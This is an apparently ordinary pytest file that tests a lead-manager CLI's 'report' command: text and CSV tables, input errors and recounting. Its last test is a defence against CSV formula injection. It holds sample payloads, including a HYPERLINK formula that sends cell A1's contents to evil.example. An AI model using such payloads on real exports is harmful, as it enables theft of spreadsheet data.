"""`leadsmanager report`: the same tables as the page, as text or CSV, with one-line errors."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest

from leadsmanager.entrypoints.formats.report_tables import TABLE_NAMES, report_tables
from tests.integration.conftest import Cli


@pytest.fixture
def two_leads(cli: Cli) -> Cli:
    for n, service in ((1, "Solar"), (2, "")):
        added = cli("leads", "add", "--name", f"Lead {n}", "--email", f"lead{n}@example.com", "--service", service)
        assert added.exit_code == 0, added.output
    made = cli(
        "users",
        "create",
        "--email",
        "rita@example.com",
        "--name",
        "Rita",
        "--role",
        "employee",
        "--password-stdin",
        stdin="a long enough password\n",
    )
    assert made.exit_code == 0, made.output
    return cli


def test_the_last_30_days_as_text(two_leads: Cli) -> None:
    result = two_leads("report")
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0].endswith("(UTC)")
    funnel = lines[lines.index("Funnel") + 1 : lines.index("Funnel") + 8]
    assert funnel[0].split() == ["Stage", "Leads", "Of", "the", "leads", "that", "came", "in"]
    assert funnel[1].split() == ["new", "2", "100.0%"] and funnel[6].split() == ["lost", "0", "0.0%"]
    services = lines[lines.index("Leads by service") + 1 : lines.index("Leads by service") + 4]
    assert [row.split() for row in services[1:]] == [["(none)", "1"], ["Solar", "1"]]


def test_one_table_as_csv(two_leads: Cli) -> None:
    result = two_leads("report", "--csv", "sources", "--from", "2000-01-01", "--tz", "Europe/Madrid")
    assert result.exit_code == 0, result.output
    assert list(csv.reader(io.StringIO(result.output))) == [
        ["Source", "Leads", "Spam", "Won", "Conversion (%)"],
        ["manual", "2", "0", "0", "0.0"],
    ]


def test_the_campaigns_table_as_csv(two_leads: Cli) -> None:
    added = two_leads("leads", "add", "--name", "Lead 3", "--email", "lead3@example.com", "--campaign", " Expo ")
    assert added.exit_code == 0, added.output
    lead_id = added.output.split()[1]
    assert "campaign: Expo" in two_leads("leads", "show", lead_id).output
    assert [lead_id] == [
        line.split("\t")[0] for line in two_leads("leads", "list", "--campaign", "Expo").output.splitlines()
    ]
    result = two_leads("report", "--csv", "campaigns")
    assert result.exit_code == 0, result.output
    assert list(csv.reader(io.StringIO(result.output))) == [
        ["Campaign", "Leads", "Won", "Conversion (%)"],
        ["Expo", "1", "0", "0.0"],
        ["(none)", "2", "0", "0.0"],
    ]


def test_a_period_before_any_lead(two_leads: Cli) -> None:
    result = two_leads("report", "--from", "2001-01-01", "--to", "2001-12-31")
    assert result.exit_code == 0 and "no leads in this period" in result.output


def test_a_rep_with_no_leads(two_leads: Cli) -> None:
    result = two_leads("report", "--assignee", "rita@example.com", "--csv", "funnel")
    assert result.exit_code == 0 and result.output.splitlines()[1] == "new,0,"


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (("--tz", "Moon/Base"), 3, "unknown time zone"),
        (("--from", "03/01/2026"), 3, "from must be a date"),
        (("--assignee", "nobody@example.com"), 4, "nobody@example.com"),
    ],
)
def test_bad_input_is_one_line(two_leads: Cli, args: tuple[str, ...], code: int, message: str) -> None:
    result = two_leads("report", *args)
    assert result.exit_code == code and message in result.output and len(result.output.splitlines()) == 1


def test_csv_offers_exactly_the_reports_tables(memory_views: Callable[[], object]) -> None:
    from datetime import timedelta
    from zoneinfo import ZoneInfo

    from leadsmanager.application.reports import ReportQuery, Reports
    from leadsmanager.domain.actor import Actor
    from leadsmanager.domain.period import Period
    from tests.support import FakeClock

    report = Reports(memory_views, FakeClock(), follow_up=timedelta(hours=1))  # type: ignore[arg-type]
    empty = report(ReportQuery(Period(None, None, ZoneInfo("UTC"))), by=Actor.system())
    assert [t.name for t in report_tables(empty)] == TABLE_NAMES


def test_recount_repairs_counts_that_drifted(two_leads: Cli, tmp_path: Path) -> None:
    import sqlite3

    with sqlite3.connect(tmp_path / "cli.sqlite3") as connection:
        connection.execute("DELETE FROM report_counts")
        connection.execute("DELETE FROM report_keys")
        connection.execute("DELETE FROM report_pending")
    assert two_leads("report", "--csv", "funnel").output.splitlines()[1] == "new,0,"
    recounted = two_leads("db", "recount-reports")
    assert (recounted.exit_code, recounted.output) == (0, "report counts rebuilt from the leads\n")
    assert two_leads("report", "--csv", "funnel").output.splitlines()[1] == "new,2,100.0"


def test_csv_cells_never_start_a_formula(cli: Cli) -> None:
    formulas = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(A1:A9)", "-2+3", "+1+1")
    for n, service in enumerate(formulas):
        added = cli("leads", "add", "--name", service, "--email", f"f{n}@example.com", "--service", service)
        assert added.exit_code == 0, added.output
    result = cli("report", "--csv", "services")
    assert result.exit_code == 0, result.output
    services = {row[0] for row in csv.reader(io.StringIO(result.output))}
    assert services == {"Service", *(f"'{formula}" for formula in formulas)}
